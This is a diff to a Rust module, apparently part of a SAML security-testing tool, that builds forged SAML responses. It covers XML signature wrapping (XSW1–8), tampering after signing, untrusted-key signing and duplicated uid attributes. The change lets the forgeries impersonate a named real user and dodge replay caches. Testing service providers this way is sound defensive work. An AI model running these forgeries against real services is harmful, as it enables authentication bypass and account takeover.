@@ -24,8 +24,9 @@ use crate::xml::{self, text_escaped, Element, Node, XmlError, NS_ASSERTION, NS_D
 pub const EVIL_NAME_ID: &str = "mallory@evil.test";
 /// The uid the attacker wants to be.
 pub const EVIL_UID: &str = "evil-uid-0000";
-const EVIL_RESPONSE_ID: &str = "_evil_response_ID";
-const EVIL_ASSERTION_ID: &str = "_evil_assertion_ID";
+/// Prefix of the forged elements' IDs. They are derived from the genuine IDs, so each forged
+/// document is new to an SP's replay cache and a refusal can only come from the check under test.
+const EVIL_ID_PREFIX: &str = "_evil";
 const EVIL_URL: &str = "https://evil-sp.test/saml/acs";
 const EVIL_AUDIENCE: &str = "https://evil-sp.test/saml/metadata";
 const EVIL_ISSUER: &str = "https://evil-idp.test/";
@@ -175,6 +176,29 @@ pub struct AttackContext<'a> {
     pub clock_skew: Duration,
     /// The SP's "now" when it will verify, for the time attacks.
     pub now: OffsetDateTime,
+    /// Whom the forged parts claim to be; `None`: [`EVIL_NAME_ID`] and [`EVIL_UID`], an
+    /// identity the SP does not know. Naming a provisioned user turns an SP that reads the
+    /// forged part into a visible takeover of that user, not just a stray sign-up.
+    pub victim: Option<Victim<'a>>,
+}
+
+/// The identity an attack's forged parts claim (see [`AttackContext::victim`]).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Victim<'a> {
+    /// The NameID the forged assertion carries.
+    pub name_id: &'a str,
+    /// The value of the uid attribute (and Entra's objectidentifier) it carries.
+    pub uid: &'a str,
+}
+
+impl<'a> AttackContext<'a> {
+    /// The identity the forged parts claim.
+    pub fn forged_identity(&self) -> Victim<'a> {
+        self.victim.unwrap_or(Victim {
+            name_id: EVIL_NAME_ID,
+            uid: EVIL_UID,
+        })
+    }
 }
 
 /// A tampered document and what should become of it.
@@ -283,16 +307,19 @@ impl Attack {
             source: e,
         };
         let uid = ctx.uid_attribute;
+        let forged = ctx.forged_identity();
+        let evil_response_id = format!("{EVIL_ID_PREFIX}{}", base.response_id);
+        let evil_assertion_id = format!("{EVIL_ID_PREFIX}{}", base.assertion_id);
         let xml = match self {
             Unsigned => spec.to_unsigned_xml(),
             ModifiedAfterSigning => {
                 let mut root = xml::parse(&sign(&spec, ctx.trusted)?).map_err(rewrite)?;
                 let assertion = assertion_mut(&mut root, name)?;
-                set_name_id(assertion, EVIL_NAME_ID);
+                set_name_id(assertion, forged.name_id);
                 root.to_xml()
             }
             UntrustedKey => {
-                make_spec_evil(&mut spec, uid);
+                make_spec_evil(&mut spec, uid, forged);
                 sign(&spec, ctx.attacker)?
             }
             Xsw1 | Xsw2 => {
@@ -300,8 +327,8 @@ impl Attack {
                 let mut root = xml::parse(&sign(&spec, ctx.trusted)?).map_err(rewrite)?;
                 let mut clone = root.clone();
                 clone.remove_children(NS_DSIG, "Signature");
-                root.set_attr("ID", EVIL_RESPONSE_ID);
-                make_assertion_evil(assertion_mut(&mut root, name)?, uid);
+                root.set_attr("ID", &evil_response_id);
+                make_assertion_evil(assertion_mut(&mut root, name)?, uid, forged);
                 let sig_at = root
                     .child_index(NS_DSIG, "Signature")
                     .ok_or_else(|| shape(name, "no response signature"))?;
@@ -327,21 +354,21 @@ impl Attack {
                 copy.remove_children(NS_DSIG, "Signature");
                 match self {
                     Xsw3 => {
-                        copy.set_attr("ID", EVIL_ASSERTION_ID);
-                        make_assertion_evil(&mut copy, uid);
+                        copy.set_attr("ID", &evil_assertion_id);
+                        make_assertion_evil(&mut copy, uid, forged);
                         root.children.insert(at, Node::Element(copy));
                     }
                     Xsw4 => {
-                        copy.set_attr("ID", EVIL_ASSERTION_ID);
-                        make_assertion_evil(&mut copy, uid);
+                        copy.set_attr("ID", &evil_assertion_id);
+                        make_assertion_evil(&mut copy, uid, forged);
                         copy.children.push(Node::Element(original));
                         root.children.remove(at);
                         root.children.push(Node::Element(copy));
                     }
                     Xsw5 | Xsw6 => {
                         let mut evil = original;
-                        evil.set_attr("ID", EVIL_ASSERTION_ID);
-                        make_assertion_evil(&mut evil, uid);
+                        evil.set_attr("ID", &evil_assertion_id);
+                        make_assertion_evil(&mut evil, uid, forged);
                         if *self == Xsw5 {
                             root.children[at] = Node::Element(evil);
                             root.children.push(Node::Element(copy));
@@ -353,7 +380,7 @@ impl Attack {
                         }
                     }
                     Xsw7 => {
-                        make_assertion_evil(&mut copy, uid);
+                        make_assertion_evil(&mut copy, uid, forged);
                         let prefix = root.prefix().map(|p| format!("{p}:")).unwrap_or_default();
                         let mut extensions =
                             Element::new(format!("{prefix}Extensions"), Some(NS_PROTOCOL));
@@ -363,7 +390,7 @@ impl Attack {
                     _ => {
                         // Xsw8
                         let mut evil = original;
-                        make_assertion_evil(&mut evil, uid);
+                        make_assertion_evil(&mut evil, uid, forged);
                         let sig = signature_mut(&mut evil, name)?;
                         let prefix = sig.prefix().map(|p| format!("{p}:")).unwrap_or_default();
                         let mut object = Element::new(format!("{prefix}Object"), Some(NS_DSIG));
@@ -378,8 +405,8 @@ impl Attack {
                 spec.sign = SignMode::Assertion;
                 let mut root = xml::parse(&sign(&spec, ctx.trusted)?).map_err(rewrite)?;
                 let mut evil_spec = spec.clone();
-                evil_spec.assertion_id = EVIL_ASSERTION_ID.to_owned();
-                make_spec_evil(&mut evil_spec, uid);
+                evil_spec.assertion_id = evil_assertion_id.clone();
+                make_spec_evil(&mut evil_spec, uid, forged);
                 // Parse the evil assertion inside a wrapper that declares what the Response declares (the plain style's `saml:` prefix).
                 let wrapper = format!(
                     "<w xmlns:saml=\"{NS_ASSERTION}\">{}</w>",
@@ -521,10 +548,10 @@ impl Attack {
                         spec.attributes.retain(|a| a.name != uid);
                     }
                     UidEmpty => spec.attributes[at].values = vec![String::new()],
-                    UidTwoValues => spec.attributes[at].values.insert(0, EVIL_UID.to_owned()),
+                    UidTwoValues => spec.attributes[at].values.insert(0, forged.uid.to_owned()),
                     UidTwoAttributes => {
                         let evil = Attribute {
-                            values: vec![EVIL_UID.to_owned()],
+                            values: vec![forged.uid.to_owned()],
                             ..spec.attributes[at].clone()
                         };
                         spec.attributes.insert(at, evil);
@@ -556,21 +583,21 @@ fn shape(attack: &'static str, detail: &str) -> AttackError {
 }
 
 /// The evil identity in a spec: NameID and every uid-bearing attribute.
-fn make_spec_evil(spec: &mut ResponseSpec, uid: &str) {
-    spec.name_id = EVIL_NAME_ID.to_owned();
+fn make_spec_evil(spec: &mut ResponseSpec, uid: &str, evil: Victim<'_>) {
+    spec.name_id = evil.name_id.to_owned();
     for a in spec.attributes.iter_mut() {
         if a.name == uid || a.name == ENTRA_OBJECT_ID {
-            a.values = vec![EVIL_UID.to_owned()];
+            a.values = vec![evil.uid.to_owned()];
         }
     }
 }
 
 /// The evil identity in an Assertion element.
-fn make_assertion_evil(assertion: &mut Element, uid: &str) {
-    set_name_id(assertion, EVIL_NAME_ID);
+fn make_assertion_evil(assertion: &mut Element, uid: &str, evil: Victim<'_>) {
+    set_name_id(assertion, evil.name_id);
     for name in [uid, ENTRA_OBJECT_ID] {
         for v in attribute_values_mut(assertion, name) {
-            v.set_text(EVIL_UID);
+            v.set_text(evil.uid);
         }
     }
 }
